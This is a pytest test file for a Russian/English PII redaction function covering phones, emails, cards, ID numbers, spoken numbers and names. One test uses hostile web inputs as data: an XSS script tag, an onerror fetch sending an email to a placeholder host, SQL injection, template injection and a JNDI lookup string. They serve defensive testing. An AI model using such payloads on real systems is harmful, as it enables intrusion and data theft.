"""PII redaction: each kind in both languages, spoken numbers, names, hostile input, and what must stay."""

import re
import time

import pytest

from nlp.redact import find_pii, inn_ok, luhn_ok, redact


def digits(s: str) -> str:
    return re.sub(r"\D", "", s)


@pytest.mark.parametrize("text,lang,secret,tag", [
    ("Мой номер +7 916 123-45-67, перезвоните.", "ru", "+7 916 123-45-67", "[телефон]"),
    ("Запишите: 8 (916) 325-47-80", "ru", "8 (916) 325-47-80", "[телефон]"),
    ("мой телефон 89161234567", "ru", "89161234567", "[телефон]"),
    ("мобильный 916 123 45 67", "ru", "916 123 45 67", "[телефон]"),
    ("набирайте по номеру 325-47-80", "ru", "325-47-80", "[телефон]"),
    ("Восемь девять свадь 16 325 47 80.", "ru", "16 325 47 80", "[телефон]"),  # ASR-garbled prefix
    ("You can reach me at (415) 555-0199.", "en", "(415) 555-0199", "[phone]"),
    ("my cell is +1 415 555 0199", "en", "+1 415 555 0199", "[phone]"),
    ("Call 1-800-555-0199 tomorrow", "en", "1-800-555-0199", "[phone]"),
    ("Whatsapp: +44 20 7946 0958", "en", "+44 20 7946 0958", "[phone]"),
    ("Почта ivan.petrov@mail.ru, пишите", "ru", "ivan.petrov@mail.ru", "[email]"),
    ("email me at john.smith+crm@example.co.uk", "en", "john.smith+crm@example.co.uk", "[email]"),
    ("Карта 4111 1111 1111 1111, срок 12/27", "ru", "4111 1111 1111 1111", "[карта]"),
    ("card number 5500-0000-0000-0004", "en", "5500-0000-0000-0004", "[card]"),
    ("номер карты 4276 3800 1234 5671", "ru", "4276 3800 1234 5671", "[карта]"),  # fails Luhn, but said to be a card
    ("паспорт 45 08 123456 выдан", "ru", "45 08 123456", "[паспорт]"),
    ("паспорт серия 4508 номер 123456", "ru", "4508 номер 123456", "[паспорт]"),
    ("ИНН 7707083893, организация", "ru", "7707083893", "[ИНН]"),
    ("мой инн 500100732259", "ru", "500100732259", "[ИНН]"),
    ("СНИЛС 112-233-445 95", "ru", "112-233-445 95", "[СНИЛС]"),
    ("SSN 123-45-6789 on file", "en", "123-45-6789", "[SSN]"),
])
def test_each_kind_is_replaced_by_its_tag(text, lang, secret, tag):
    out = redact(text, lang)
    assert secret not in out and tag in out, out
    if digits(secret):
        assert digits(secret) not in digits(out)


def test_spoken_phone_numbers_both_languages():
    ru = "Записывайте: восемь девятьсот шестнадцать, триста двадцать пять, сорок семь, восемьдесят. Спасибо."
    assert redact(ru, "ru") == "Записывайте: [телефон]. Спасибо."
    en = "Sure, it's four one five, five five five, oh one nine nine."
    assert redact(en, "en") == "Sure, it's [phone]."
    mixed = "мой номер восемь 916 триста двадцать пять 47 80"
    assert redact(mixed, "ru") == "мой номер [телефон]"
    assert redact("call me back at eight hundred five five five double two one nine", "en").endswith("[phone]")


def test_amounts_dates_and_prices_stay():
    keep = [
        "Три окна обойдутся примерно в 85 тысяч рублей, скидка 10%.",
        "Примерно восемьдесят пять тысяч рублей, гарантия десять лет.",
        "Сто двадцать тысяч за балкон под ключ, рассрочка на шесть месяцев.",
        "I was hoping to stay around $8,000, roughly $8,000 to $9,000 installed.",
        "two thousand four hundred dollars for a six foot door",
        "Дата замера 2026-09-14, номер заказа 2026-09-14, сумма 120 000 рублей.",
        "We need ten windows, twelve months, zero interest, 4 to 6 weeks.",
        "Это дорого, но это хорошо. В конце мая приедет бригада.",
        "Thank you for calling, this is great news, it's expensive.",
    ]
    for t in keep:
        assert redact(t) == t, redact(t)


def test_names_after_cues_and_known_names():
    assert redact("Здравствуйте, меня зовут Дмитрий. Чем могу помочь?", "ru") == \
        "Здравствуйте, меня зовут [имя]. Чем могу помочь?"
    assert redact("Это Анна Сергеевна, я по поводу окон.", "ru") == "Это [имя], я по поводу окон."
    assert redact("меня зовут иван петров", "ru") == "меня зовут [имя]"
    assert redact("Спасибо, Ольга, до свидания", "ru") == "Спасибо, [имя], до свидания"
    assert redact("спасибо анна, до свидания", "ru") == "спасибо [имя], до свидания"
    assert redact("My name is Jane Doe and I need windows.", "en") == "My name is [name] and I need windows."
    assert redact("Hi Tom. My friend Karen used you last year.", "en") == "Hi [name]. My friend [name] used you last year."
    assert redact("Thanks for calling BrightHome Windows, this is Sarah speaking.", "en") == \
        "Thanks for calling BrightHome Windows, this is [name] speaking."
    # common words that are also names stay at the start of a sentence
    assert redact("Bill me later. Mark the date with Bill.", "en") == "Bill me later. Mark the date with [name]."
    assert redact("Вера в успех есть, надежда тоже.", "ru") == "Вера в успех есть, надежда тоже."
    # a name found once is masked wherever it comes back in the text, with its surname
    assert redact("It's Marcus. Marcus Reed, yes.", "en") == "It's [name]. [name], yes."
    assert redact("Меня зовут Соня. Соня Иванова, да.", "ru") == "Меня зовут [имя]. [имя], да."


def test_spoken_email_dictated_in_pieces():
    assert redact("почта timur.kh пятьдесят пять собака gmail точка com.", "ru") == "почта [email]."
    assert redact("send it to jen dot alvarez at outlook dot com", "en") == "send it to [email]"
    assert redact("I looked at it. The price is fine at all.", "en") == "I looked at it. The price is fine at all."


def test_tag_language_follows_lang_or_detection():
    assert redact("телефон 8 916 123 45 67") == "телефон [телефон]"
    assert redact("phone 8 916 123 45 67") == "phone [phone]"
    assert redact("phone 8 916 123 45 67", "ru") == "phone [телефон]"
    assert redact("телефон 8 916 123 45 67", "de") == "телефон [phone]"


def test_empty_and_non_pii_input():
    assert redact("") == ""
    assert redact("   ") == "   "
    assert find_pii("") == []
    assert redact("Да, конечно.", "ru") == "Да, конечно."
    assert redact(None) is None  # type: ignore[arg-type]


def test_hostile_markup_keeps_pii_out_and_leaves_markup_alone():
    ru = '<script>alert("8 916 123-45-67")</script><img src=x onerror="fetch(\'//x?ivan@mail.ru\')"> меня зовут Иван'
    out = redact(ru, "ru")
    assert "916" not in out and "ivan@mail.ru" not in out and "Иван" not in out
    assert out.startswith('<script>alert("[телефон]")</script><img src=x onerror=')  # escaping is the report's job
    en = "'; DROP TABLE calls;-- my email is a@b.io {{7*7}} ${jndi:ldap://x} my name is Robert'); "
    out = redact(en, "en")
    assert "a@b.io" not in out and "Robert" not in out and "DROP TABLE calls" in out and "{{7*7}}" in out


@pytest.mark.parametrize("bad", [
    "1" * 50000,
    "8 " * 30000,
    ("a." * 20000) + "@",
    "dot " * 20000 + "at x",
    "тридцать " * 10000,
    "-" * 50000 + "1",
    ("Anna " * 10000),
    "это " * 20000,
    "меня зовут " * 5000 + "Иван",
    "my name is " * 5000,
    "\x00\u202e\ufeff" * 5000 + "+7 916 123 45 67",
], ids=lambda s: f"{s[:6]!r}x{len(s)}")
def test_hostile_input_is_fast(bad):
    t = time.perf_counter()
    out = redact(bad)
    assert time.perf_counter() - t < 3.0
    assert isinstance(out, str)


def test_checksums():
    assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112")
    assert not luhn_ok("4276380012345671")  # the card said to be a card above, so the cue rule is what tags it
    assert inn_ok("7707083893") and not inn_ok("7707083894")
    assert inn_ok("500100732259") and not inn_ok("500100732250")
    assert not inn_ok("0000000000")


@pytest.mark.parametrize("text,name", [
    ("hi this is john from acme", "john"),
    ("thanks john", "john"),
    ("hello mary how are you", "mary"),
])
def test_lowercase_first_name_after_a_cue(text, name):
    """Human and speech-recogniser transcripts are often all lowercase: a first name after a cue goes."""
    assert name not in redact(text, "en")


@pytest.mark.parametrize("text", ["thank you will do", "hi will you help me", "thanks mark", "hello june",
                                  "i am calling about a loan"])
def test_lowercase_common_words_after_a_cue_stay(text):
    """Names that are also common words ("will", "mark", "june") stay when lowercase: no capital, no proof."""
    assert redact(text, "en") == text
